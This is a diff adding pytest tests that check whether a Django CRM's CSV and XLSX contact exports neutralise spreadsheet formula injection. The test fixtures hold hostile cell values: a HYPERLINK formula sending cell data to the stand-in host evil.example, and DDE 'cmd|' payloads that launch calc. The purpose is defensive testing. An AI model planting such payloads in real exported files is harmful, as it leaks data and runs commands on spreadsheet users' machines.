@@ -3,12 +3,16 @@ translated column titles and no per-contact queries."""
 
 from __future__ import annotations
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.urls import reverse
 
 from crm_sms.importing import import_contacts
 from crm_sms.models import Contact, ContactGroup
-from crm_sms.resources import ContactResource
+from crm_sms.resources import ContactResource, escape_formula
 
 pytestmark = pytest.mark.django_db
 
@@ -104,3 +108,82 @@ def test_export_link_on_the_contact_list(admin_en):
     html = page.content.decode()
     assert reverse("admin:crm_sms_contact_export") in html
     assert reverse("admin:crm_sms_contact_import") in html
+
+
+# --- formula injection (issue 10, point 3) ------------------------------------------------
+
+HOSTILE = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
+    "cmd": "+cmd|' /C calc'!A0",
+    "sum": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+@pytest.fixture
+def hostile():
+    group = ContactGroup.objects.create(name="=cmd|' /C calc'!A0")
+    for i, (key, name) in enumerate(HOSTILE.items()):
+        contact = Contact.objects.create(
+            first_name=name, last_name=key, notes="@SUM(A1:A9)", phone=f"+7900123{4300 + i}"
+        )
+        contact.groups.set([group])
+    return HOSTILE
+
+
+def test_csv_export_escapes_formulas(admin_en, hostile):
+    content = export(admin_en, 0).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(content)))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        name = hostile[row["Last name"]]
+        # The OWASP way: a leading apostrophe makes a spreadsheet show the text, not run it.
+        assert row["First name"] == "'" + name
+        assert row["Notes"] == "'@SUM(A1:A9)"
+        assert row["Groups"] == "'=cmd|' /C calc'!A0"
+        # A phone is E.164 (a plus and digits): no formula, and it must stay as it is.
+        assert row["Phone"].startswith("+7900123")
+
+
+def test_xlsx_export_has_no_formula_cells(admin_en, hostile):
+    sheet = openpyxl.load_workbook(io.BytesIO(export(admin_en, 1))).active
+    rows = list(sheet.iter_rows(values_only=False))
+    titles = [cell.value for cell in rows[0]]
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    for row in rows[1:]:
+        values = dict(zip(titles, (cell.value for cell in row), strict=True))
+        # XML reads a carriage return back as a line feed.
+        expected = "'" + hostile[values["Last name"]].replace("\r", "\n")
+        assert values["First name"] == expected
+        assert values["Phone"].startswith("+7900123")  # not escaped, not a number
+
+
+def test_phone_numbers_and_harmless_text_are_not_escaped(admin_en, people):
+    content = export(admin_en, 0).decode("utf-8")
+    rows = {row["Phone"]: row for row in csv.DictReader(io.StringIO(content))}
+    assert set(rows) == {"+79001234212", "+79001234213", "+447911123456"}
+    assert rows["+79001234212"]["First name"] == "Иван"
+    assert rows["+79001234212"]["Notes"].startswith("многострочная")
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("=1+1", "'=1+1"),
+        ("==HYPERLINK()", "'==HYPERLINK()"),  # import-export's own setting strips one '=' only
+        ("-2+3", "'-2+3"),
+        ("+79001234212", "+79001234212"),  # E.164: a number, not a formula
+        ("-15", "-15"),
+        ("+7 900 123-42-12", "'+7 900 123-42-12"),  # not a plain number: Excel would compute it
+        ("Иван", "Иван"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (None, None),
+        (5, 5),
+    ],
+)
+def test_escape_formula(value, exported):
+    assert escape_formula(value) == exported
